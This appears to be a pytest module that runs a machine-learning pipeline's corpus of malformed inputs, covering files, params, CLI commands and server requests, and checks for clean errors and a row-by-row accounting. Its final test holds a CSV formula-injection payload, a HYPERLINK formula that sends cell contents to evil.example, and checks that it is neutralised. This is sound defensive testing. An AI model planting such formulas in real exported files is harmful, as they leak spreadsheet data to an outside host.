"""The bad-input corpus (tests/bad_inputs/cases.yaml): every mistake a user makes, run the way a user runs it.

A case is a malformed file, a params.yaml with one bad value, a `finetune` command line, or a
request to a running `finetune serve`. It ends one of these ways, never with a traceback:
`finetune` exits with the case's code and an `error:` message that names the file, key or row,
the problem and the fix; the server answers with the case's status and `detail`; or the bad rows
are quarantined with their reasons and every row read is accounted for (clean + quarantined ==
raw, and raw + exact duplicates dropped == rows read).
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any, Callable, Iterator

import pytest
import yaml
from transformers.utils import logging as hf_logging

from pipeline.cli import main
from pipeline.errors import DataError
from pipeline.paths import PipelinePaths
from pipeline.readers import FORMULA_STARTS, read_source
from pipeline.records import load_json, load_records
from pipeline.techniques.active_learning import read_pool, write_queue
from tests.conftest import ROOT, make_rows, tiny_params, write_csv, write_params
from tests.ner_data import make_sentences, ner_params
from tests.test_translation import translation_section

# transformers gives its log handler the sys.stderr of the moment it first logs; inside a test that is pytest's
# capture of the test, closed after it, and every later log line would print "--- Logging error --- Traceback".
hf_logging.get_verbosity()

CORPUS = Path(__file__).parent / "bad_inputs"
CASES = yaml.safe_load((CORPUS / "cases.yaml").read_text(encoding="utf-8"))
NOT_CASE_FILES = ("cases.yaml", "README.md")  # the corpus's own documentation (a README inside a case folder is part of it)
UNUSED_MODEL = Path("unused")  # the data stages never load the model
DATA_ENTRIES = ("collect", "validate")
DEFAULT_EXIT = {"params": 2, "collect": 3, "validate": 3, "predict": 3, "pool": 3}
# Categories of the issue, and how many cases each must have at least.
CATEGORIES = {"params": ("params",), "data": DATA_ENTRIES, "cli": ("cli", "predict", "pool"), "server": ("server",)}
FLOORS = {"params": 25, "data": 45, "cli": 15, "server": 8}
TAG_NAMES = ["O", "B-PER", "I-PER", "B-ORG", "I-ORG", "B-LOC", "I-LOC", "B-MISC", "I-MISC"]


# params.yaml for a case ---------------------------------------------------------------------------
def merged(base: dict, override: dict) -> dict:
    """`base` with `override` merged in, mappings key by key (a list or a value replaces)."""
    result = dict(base)
    for key, value in override.items():
        result[key] = merged(result[key], value) if isinstance(value, dict) and isinstance(result.get(key), dict) else value
    return result


def pipeline_params(case: dict, source: str) -> dict:
    """params.yaml for the case's pipeline reading `source`, lenient enough that only the case's own problem shows;
    `settings` is merged into the pipeline's section, `params` into the whole file."""
    pipeline = case.get("pipeline", "sentiment")
    if pipeline == "sentiment":
        params = tiny_params(UNUSED_MODEL, source)
        params["sentiment"]["validate"].update(min_rows_per_class=0, max_reject_fraction=1.0)
    elif pipeline == "ner":
        params = ner_params(UNUSED_MODEL, source, validate={"min_mentions_per_type": 0, "max_reject_fraction": 1.0})
    else:
        section = translation_section(UNUSED_MODEL, source, validate={"min_pairs": 0, "max_reject_fraction": 1.0})
        params = {"pipelines": ["translation"], "tracking": {"experiment": "test"}, "translation": section}
    params[pipeline]["data"]["format"] = case.get("format", params[pipeline]["data"]["format"])
    params[pipeline] = merged(params[pipeline], case.get("settings", {}))
    return merged(params, case.get("params", {}))


# generated inputs: too big to commit ---------------------------------------------------------------
def write_jsonl(path: Path, rows: list[dict]) -> None:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")


def one_mb_line(data: Path) -> tuple[str, dict[int, str]]:
    """A csv whose row on line 3 is a single 1 MB text."""
    (data / "one_mb_line.csv").write_text(
        "text,label\nOperating profit rose to EUR 13.1 mn,positive\n" + "profit " * 150_000 + ",neutral\n"
        "The company is based in Espoo,neutral\n",
        encoding="utf-8",
    )
    return "data/one_mb_line.csv", {3: "text length outside 3..2000 characters"}


def unknown_labels_at_scale(data: Path) -> tuple[str, dict[int, str]]:
    """3,000 csv rows; every 10th (300) labelled 'bullish'. Row n of the data is line n + 1."""
    rows = make_rows(3000, seed=5)
    planted = {}
    for index in range(0, len(rows), 10):
        rows[index]["label"] = "bullish"
        planted[index + 2] = "label 'bullish' not in [negative, neutral, positive]"
    write_csv(data / "many_labels.csv", rows)
    return "data/many_labels.csv", planted


def long_texts_at_scale(data: Path) -> tuple[str, dict[int, str]]:
    """2,500 jsonl rows; every 8th (313) a text of 2,001+ characters."""
    rows = make_rows(2500, seed=6)
    planted = {}
    for index in range(0, len(rows), 8):
        rows[index]["text"] = "profit " * 286 + str(index)  # unique, or collect drops it as an exact copy
        planted[index + 1] = "text length outside 3..2000 characters"
    write_jsonl(data / "long_texts.jsonl", rows)
    return "data/long_texts.jsonl", planted


def ner_ids_out_of_range_at_scale(data: Path) -> tuple[str, dict[int, str]]:
    """2,500 sentences tagged with integer ids; every 9th (278) has id 42, past the 9 tag names."""
    planted = {}
    rows = []
    for index, (tokens, tags) in enumerate(make_sentences(2500, seed=7)):
        ids = [TAG_NAMES.index(tag) for tag in tags]
        if index % 9 == 0:
            ids[-1] = 42
            planted[index + 1] = f"tag {len(ids)} is id 42, but ner.validate.tag_names lists only 9 tags (ids 0..8)"
        rows.append({"tokens": tokens, "tags": ids})
    write_jsonl(data / "ner_ids.jsonl", rows)
    return "data/ner_ids.jsonl", planted


def null_sides_at_scale(data: Path) -> tuple[str, dict[int, str]]:
    """3,000 jsonl sentence pairs; every 11th (273) without its English side (null)."""
    planted = {}
    rows = []
    for index in range(3000):
        row = {"de": f"Der Umsatz stieg im Quartal {index} um drei Prozent.", "en": f"Sales rose three percent in quarter {index}."}
        if index % 11 == 0:
            row["en"] = None
            planted[index + 1] = "translation is missing"
        rows.append(row)
    write_jsonl(data / "pairs.jsonl", rows)
    return "data/pairs.jsonl", planted


GENERATORS: dict[str, Callable[[Path], tuple[str, dict[int, str]]]] = {
    f.__name__: f for f in (one_mb_line, unknown_labels_at_scale, long_texts_at_scale, ner_ids_out_of_range_at_scale,
                            null_sides_at_scale)
}


# data cases: `finetune stage collect` (and validate) ------------------------------------------------
def source_files(case: dict) -> list[Path]:
    """The corpus files behind a case's `file`: the file, both sides of a parallel pair, or a folder's files."""
    if "file" not in case:
        return []
    path = CORPUS / case["file"]
    if path.is_dir():
        return sorted(p for p in path.rglob("*") if p.is_file())
    if case.get("format") == "parallel":
        return [p for p in (path.with_name(f"{path.name}.{language}") for language in ("de", "en")) if p.exists()]
    return [path]


def case_files(case: dict) -> list[Path]:
    """Every corpus file a case uses: its source files and the batches it drops in the drop folder."""
    return source_files(case) + [CORPUS / batch for batch in case.get("incoming", [])]


def install_data(case: dict, workspace: Path) -> tuple[str, dict[int, str]]:
    """Copy (or generate) the case's input into data/ and write params.yaml; (the source as the user names it, planted bad rows)."""
    data = workspace / "data"
    data.mkdir()
    planted: dict[int, str] = {}
    if "generate" in case:
        source, planted = GENERATORS[case["generate"]](data)
    elif (CORPUS / case["file"]).is_dir():
        source = f"data/{Path(case['file']).name}"
        shutil.copytree(CORPUS / case["file"], workspace / source)
    else:
        source = f"data/{Path(case['file']).name}"
        for file in source_files(case):
            shutil.copy(file, data / file.name)
    for batch in case.get("incoming", []):  # the drop folder, data/incoming by default
        (data / "incoming").mkdir(exist_ok=True)
        shutil.copy(CORPUS / batch, data / "incoming" / Path(batch).name)
    write_params(workspace, pipeline_params(case, source))
    return source, planted


def run_stages(argv_tail: list[str], stages: tuple[str, ...], capsys) -> tuple[int, str]:
    """`finetune stage S ...` for each stage until one fails; (exit code, everything printed)."""
    printed = ""
    for stage in stages:
        code = main(["stage", stage, *argv_tail])
        printed += "".join(capsys.readouterr())
        if code:
            return code, printed
    return 0, printed


def check_accounted(case: dict, planted: dict[int, str]) -> None:
    """Every row read is clean, quarantined with the expected reason, or an exact duplicate: none went missing."""
    paths = PipelinePaths(case.get("pipeline", "sentiment"))
    provenance = load_json(paths.provenance)
    raw, clean, quarantined = load_records(paths.raw), load_records(paths.clean), load_records(paths.quarantine)
    assert len(clean) + len(quarantined) == len(raw) == provenance["rows"]
    assert len(raw) + provenance["exact_duplicates_dropped"] == provenance["rows_read"]
    reasons = {row["row"]: row["reason"] for row in quarantined}
    expected = case.get("quarantined", planted)
    if planted:
        assert set(planted) == set(expected)
    assert sorted(reasons) == sorted(expected), reasons if len(reasons) < 20 else f"{len(reasons)} quarantined, {len(expected)} expected"
    for row, reason in expected.items():
        assert reason in reasons[row], (row, reasons[row])
    assert len(quarantined) == case.get("quarantined_count", len(quarantined))
    assert len(clean) == case.get("clean", len(clean))
    for field, value in case.get("first_clean", {}).items():
        assert clean[0][field] == value, clean[0]
    texts = {row.get("text") for row in clean}
    for text in case.get("kept", []):
        assert text in texts  # verbatim: never evaluated, never altered


def check_set_aside(case: dict) -> None:
    """The drop-folder batches set aside are recorded with their reasons in data/quarantine/<pipeline>.batches.jsonl."""
    recorded = load_records(PipelinePaths(case.get("pipeline", "sentiment")).rejected_batches)
    reasons = {Path(r["file"]).name: r["reason"] for r in recorded}
    expected = case.get("set_aside", {})
    assert sorted(reasons) == sorted(expected), reasons
    for name, reason in expected.items():
        assert reason in reasons[name], reasons[name]


def run_data_case(case: dict, workspace: Path, capsys) -> None:
    source, planted = install_data(case, workspace)
    stages = ("collect", "validate") if case["entry"] == "validate" else ("collect",)
    code, printed = run_stages(["--pipeline", case.get("pipeline", "sentiment")], stages, capsys)
    assert "Traceback" not in printed
    if "message" in case:
        check_error(case, code, printed, names=case.get("names", source))
    else:
        assert code == 0, printed
    if "set_aside" in case:
        check_set_aside(case)
    if case["outcome"] != "error":
        check_accounted(case, planted)


def check_error(case: dict, code: int, printed: str, names: str | None) -> None:
    """One `error:` line with the case's exit code that names the file or key and holds the case's message."""
    assert code == case.get("exit", DEFAULT_EXIT.get(case["entry"])), printed
    assert printed.count("error: ") == 1, printed
    error = printed[printed.index("error: "):]
    assert error.count("\n") <= 1, error  # one line
    if names:
        assert names in error, error
    assert case["message"] in error, error


# params, predict --file, select --pool: a corpus file given on the command line --------------------
def run_file_case(case: dict, workspace: Path, capsys) -> None:
    shown = Path(case["file"]).name
    shutil.copy(CORPUS / case["file"], workspace / shown)
    if case["entry"] == "pool":  # `finetune select` reads the pool only after loading a champion, so call its reader
        try:
            read_pool(shown)
            code, printed = 0, ""
        except DataError as exc:
            code, printed = exc.exit_code, f"error: {exc}\n"
    else:
        argv = ["--params", shown, "stage", "collect"] if case["entry"] == "params" else ["predict", "--file", shown]
        code, printed = main(argv), "".join(capsys.readouterr())
    assert "Traceback" not in printed
    check_error(case, code, printed, names=shown)


def run_params_case(case: dict, workspace: Path, capsys) -> None:
    """A params.yaml with one bad value (`settings`, `params`), as `finetune stage collect` reads it."""
    write_params(workspace, pipeline_params(case, "data/sample.csv"))
    code, printed = main(["stage", "collect", "--pipeline", case.get("pipeline", "sentiment")]), "".join(capsys.readouterr())
    assert "Traceback" not in printed
    check_error(case, code, printed, names="params.yaml")


# the command line ----------------------------------------------------------------------------------
@contextlib.contextmanager
def ports() -> Iterator[dict[str, str]]:
    """{refused_port}: a port bound but not listening (connections are refused); {busy_port}: one in use."""
    with socket.socket() as refused, socket.socket() as busy:
        refused.bind(("127.0.0.1", 0))
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        yield {"refused_port": str(refused.getsockname()[1]), "busy_port": str(busy.getsockname()[1])}


def filled(value: Any, values: dict[str, str]) -> Any:
    """`value` with each {name} of `values` filled in, in every string inside it."""
    if isinstance(value, str):
        for name, text in values.items():
            value = value.replace("{" + name + "}", text)
        return value
    if isinstance(value, list):
        return [filled(v, values) for v in value]
    if isinstance(value, dict):
        return {k: filled(v, values) for k, v in value.items()}
    return value


def run_cli(argv: list[str], env: dict[str, str] | None, capsys) -> tuple[int, str]:
    """`finetune ARGV` in this process, or with `env` as a child process (some settings are read at start-up)."""
    if env is None:
        try:
            code = main(argv)
        except SystemExit as exc:  # argparse: a usage error
            code = exc.code
        return code, "".join(capsys.readouterr())
    done = subprocess.run([sys.executable, "-m", "pipeline.cli", *argv], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PYTHONPATH": str(ROOT), **env})
    return done.returncode, done.stdout + done.stderr


def run_cli_case(case: dict, workspace: Path, capsys, request) -> None:
    """A `finetune` command in a workspace with params.yaml and 60 rows of data/sample.csv; `prepare` runs
    stages first, `block` puts a file where a folder goes, `file` copies a corpus file in, `files` adds files."""
    with ports() as values:
        if "{tiny_model}" in json.dumps(case):
            values["tiny_model"] = str(request.getfixturevalue("tiny_model"))
        case = filled(case, values)
        write_csv(workspace / "data" / "sample.csv", make_rows(60))
        write_params(workspace, pipeline_params(case, "data/sample.csv"))
        code, printed = run_stages(["--pipeline", case.get("pipeline", "sentiment")], tuple(case.get("prepare", ())), capsys)
        assert code == 0, printed
        if "file" in case:
            shutil.copy(CORPUS / case["file"], workspace / Path(case["file"]).name)
        for path, text in case.get("files", {}).items():
            (workspace / path).parent.mkdir(parents=True, exist_ok=True)
            (workspace / path).write_text(text, encoding="utf-8")
        if "block" in case:
            shutil.rmtree(workspace / case["block"], ignore_errors=True)
            (workspace / case["block"]).write_text("a file, not a folder\n")
        code, printed = run_cli(case["argv"], case.get("env"), capsys)
    assert "Traceback" not in printed
    if case.get("usage"):  # argparse's own usage message: its last line is the error
        assert code == case["exit"] and case["message"] in printed, printed
    else:
        check_error(case, code, printed, names=None)


# the server ----------------------------------------------------------------------------------------
# Small limits, so the cases can exceed them cheaply; no reload while the module runs.
LIMITS = {"max_texts_per_request": 20, "max_text_chars": 200, "reload_seconds": 3600}


@pytest.fixture(scope="module")
def client(tmp_path_factory, tiny_model) -> Iterator[Any]:
    """A TestClient of `finetune serve`'s app over the champion of a real registry: a tiny model trained one epoch."""
    from fastapi.testclient import TestClient

    from pipeline import tracking
    from pipeline.params import ServingConfig
    from pipeline.serving.serve import Service, create_app, load_served
    from pipeline.tasks import get_task, load_params
    from tests.test_promotion import NAME, train_and_register

    with pytest.MonkeyPatch.context() as patch:
        root = tmp_path_factory.mktemp("serve")
        patch.chdir(root)
        write_csv(root / "data" / "sample.csv", make_rows(120))
        train_and_register(tiny_model, 1.0e-3, sentiment__train__epochs=1)
        params = load_params()
        tracking.configure(params.tracking.experiment)
        task = get_task("sentiment", params.pipeline("sentiment"))
        settings = ServingConfig(**LIMITS)
        uri = f"models:/{NAME}@champion"
        service = Service(task, uri, settings, load_served(task, uri, "torch"))
    with TestClient(create_app({"sentiment": service}, "sentiment")) as test_client:
        assert test_client.post("/predict", json={"texts": ["Profit rose"]}).status_code == 200
        yield test_client


def send(client: Any, request: dict) -> Any:
    """One request: `json`, `content` (raw text), `form`, `chunks` (sent chunked: no Content-Length), `oversized`
    (a body one byte past the limit) or `texts` {count, chars} (a generated JSON body); `headers` as given."""
    from pipeline.params import ServingConfig
    from pipeline.serving.serve import max_body_bytes

    headers = {"content-type": "application/json", **request.get("headers", {})}
    body: Any = None
    if "json" in request:
        body = json.dumps(request["json"])
    elif "content" in request:
        body = request["content"]
    elif "chunks" in request:
        body = (chunk.encode() for chunk in request["chunks"])
    elif "oversized" in request:
        body = b" " * (max_body_bytes(ServingConfig(**LIMITS)) + 1)
    elif "texts" in request:
        body = json.dumps({"texts": ["x" * request["texts"]["chars"]] * request["texts"]["count"]})
    if "form" in request:
        headers.pop("content-type")
        return client.request(request.get("method", "POST"), request.get("path", "/predict"), data=request["form"], headers=headers)
    return client.request(request.get("method", "POST"), request.get("path", "/predict"), content=body, headers=headers)


def detail(response: Any) -> str:
    """The answer's `detail`: a message, or FastAPI's validation errors as `body.texts.1: message` lines."""
    found = response.json()["detail"]
    if isinstance(found, str):
        return found
    return "\n".join(f"{'.'.join(map(str, error['loc']))}: {error['msg']}" for error in found)


def run_server_case(case: dict, client: Any) -> None:
    response = send(client, case["request"])
    assert response.status_code == case["status"], response.text
    assert case["message"] in detail(response), detail(response)
    assert "Traceback" not in response.text


# the corpus ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("case", [
    pytest.param(case, id=case["id"], marks=[pytest.mark.model] if case["entry"] == "server" else [])  # a served champion
    for case in CASES
])
def test_bad_input(case, tmp_path, monkeypatch, capsys, request):
    monkeypatch.chdir(tmp_path)
    entry = case["entry"]
    if entry == "server":
        run_server_case(case, request.getfixturevalue("client"))
    elif entry == "cli":
        run_cli_case(case, tmp_path, capsys, request)
    elif entry == "params" and "file" not in case:
        run_params_case(case, tmp_path, capsys)
    elif entry in DATA_ENTRIES:
        run_data_case(case, tmp_path, capsys)
    else:
        run_file_case(case, tmp_path, capsys)


def test_the_corpus_has_enough_cases_and_no_file_without_one():
    ids = [case["id"] for case in CASES]
    assert len(CASES) >= 100 and len(set(ids)) == len(ids)
    for category, entries in CATEGORIES.items():
        assert sum(case["entry"] in entries for case in CASES) >= FLOORS[category], category
    assert all(case["entry"] in sum(CATEGORIES.values(), ()) for case in CASES)
    used = {path for case in CASES for path in case_files(case)}
    assert {p for p in CORPUS.rglob("*") if p.is_file() and p.relative_to(CORPUS).as_posix() not in NOT_CASE_FILES} == used


def test_labelling_queue_neutralises_formulas(tmp_path):
    """The queue csv opens in a spreadsheet: no cell may start a formula, yet reading it back restores the texts."""
    texts = [row["text"] for row in read_source(str(CORPUS / "sentiment" / "formula_injection.csv"), "csv")]
    rows = [
        {"rank": i + 1, "text": text, "predicted_label": "neutral", "confidence": 0.5, "uncertainty": 0.5, "strategy": "entropy"}
        for i, text in enumerate(texts)
    ]
    path = write_queue(rows, "sentiment", tmp_path)
    with path.open(newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")" in cells
    assert [row["text"] for row in read_source(str(path), "csv")] == texts  # labelled and dropped back in: unchanged
